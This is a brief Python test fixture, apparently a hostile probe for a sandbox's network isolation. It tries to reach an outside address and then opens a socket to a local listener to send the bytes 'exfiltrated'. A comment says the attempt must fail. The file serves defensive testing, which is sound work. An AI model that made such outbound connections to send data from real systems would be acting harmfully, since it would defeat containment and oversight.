# ruff: noqa
# HOSTILE: open a TCP connection to a listener the test runs on 127.0.0.1 (port on stdin as
# JSON {"port": N}) and send data; also try an outside address. Must fail: no network.
import json, socket, sys

port = json.loads(sys.stdin.read())["port"]
for addr in (("1.1.1.1", 53),):
    try:
        socket.create_connection(addr, timeout=1).close()
        print("CONNECTED", addr)
    except OSError as exc:
        print("no route", addr, exc)
s = socket.create_connection(("127.0.0.1", port), timeout=2)
s.sendall(b"exfiltrated")
print("CONNECTED to the host listener")
